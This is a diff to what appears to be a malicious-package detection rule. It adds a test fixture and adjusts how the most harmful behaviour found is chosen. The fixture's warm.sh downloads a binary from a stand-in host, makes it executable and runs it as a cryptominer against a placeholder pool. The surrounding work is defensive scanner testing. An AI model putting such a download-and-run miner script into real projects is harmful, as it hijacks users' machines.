@@ -53,6 +53,15 @@ export default defineRule({
         },
       },
       {
+        title: 'a shell file the code starts mines with what it downloaded',
+        files: {
+          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+          'index.js': `require('child_process').spawn('bash', ['./warm.sh']);`,
+          'warm.sh':
+            'wget -q https://stage.invalid/w -O /tmp/w\nchmod 755 /tmp/w\n/tmp/w --donate-level 1 -o pool.invalid:443\n',
+        },
+      },
+      {
         title: 'a Python script the hook starts opens a shell',
         files: {
           'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 setup.py"}}',
@@ -149,7 +158,10 @@ export default defineRule({
           return { deed, says, start, end: Math.min(text.length, start + command.text.length) };
         }),
       ].sort((a, b) => DEEDS.indexOf(a.deed) - DEEDS.indexOf(b.deed));
-      const [worst] = found.filter(({ deed }) => HARMS.has(deed) || (DOUBTFUL.has(deed) && moment !== 'unreached'));
+      // Of one that downloads what it runs, and mines, the second is what it is for.
+      const worst =
+        found.find(({ deed }) => HARMS.has(deed)) ??
+        found.find(({ deed }) => DOUBTFUL.has(deed) && moment !== 'unreached');
       if (!worst) continue;
       const harms = HARMS.has(worst.deed) || (language !== undefined && worst.deed === 'download-run');
       report({
